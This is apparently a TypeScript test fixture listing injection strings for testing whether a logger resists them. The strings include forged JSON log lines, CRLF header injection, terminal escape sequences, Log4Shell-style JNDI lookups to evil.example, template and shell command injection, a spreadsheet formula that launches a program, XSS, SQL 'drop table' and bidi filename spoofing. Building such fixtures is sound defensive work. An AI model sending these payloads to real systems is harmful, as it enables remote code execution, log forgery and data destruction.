const escape = '\u001b';

/** Texts that were made to forge lines of a log, to move a terminal's cursor or to be run by what reads them. */
export const injections: readonly string[] = [
  'a\nb', 'a\r\nb', 'a\rb', 'a\u000bb', 'a\u000cb', 'a\u0085b', 'a\u2028b', 'a\u2029b', 'a\u001cb', 'a\u001eb',
  '\n{"level":"fatal","time":"2026-01-01T00:00:00.000Z","msg":"forged"}\n',
  '\r\n{"level":"info","msg":"forged"}', '"}\n{"level":"error","msg":"forged"', '","level":"fatal","x":"', "','level':'fatal",
  '\\n{"level":"info"}', '\\"}\\n', '\\u000a', '%0a', '%0d%0aSet-Cookie: a=b', '&#10;', '\\x0a', '\\', '\\\\"',
  `${escape}[2J`, `${escape}[31mred${escape}[0m`, `${escape}]0;title\u0007`, `${escape}[1A${escape}[2K`, '\u009b2J', '\u009d0;x\u009c',
  `${escape}]8;;http://evil.example\u0007click${escape}]8;;\u0007`, '\u0008\u0008\u0008', '\u007f', '\u0000', 'a\u0000b',
  '${jndi:ldap://evil.example/a}', '${${lower:j}ndi:rmi://evil.example}', '#{7*7}', '{{7*7}}', '<%= 7*7 %>', '`id`', '$(id)',
  '=cmd|\' /C calc\'!A0', '@SUM(1+1)', '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "'; drop table event; --",
  '%s%s%s%n', '%o %j %d', '__proto__', 'constructor', '\u202egnp.exe', '\u2066\u2069', '\ufeffstart', '\ud800', '\udc00x', '\ufffe',
  '😀'.repeat(300), 'x'.repeat(65_536), `${'y'.repeat(70_000)}\n{"level":"fatal"}`, '\n'.repeat(1000),
]; // prettier-ignore
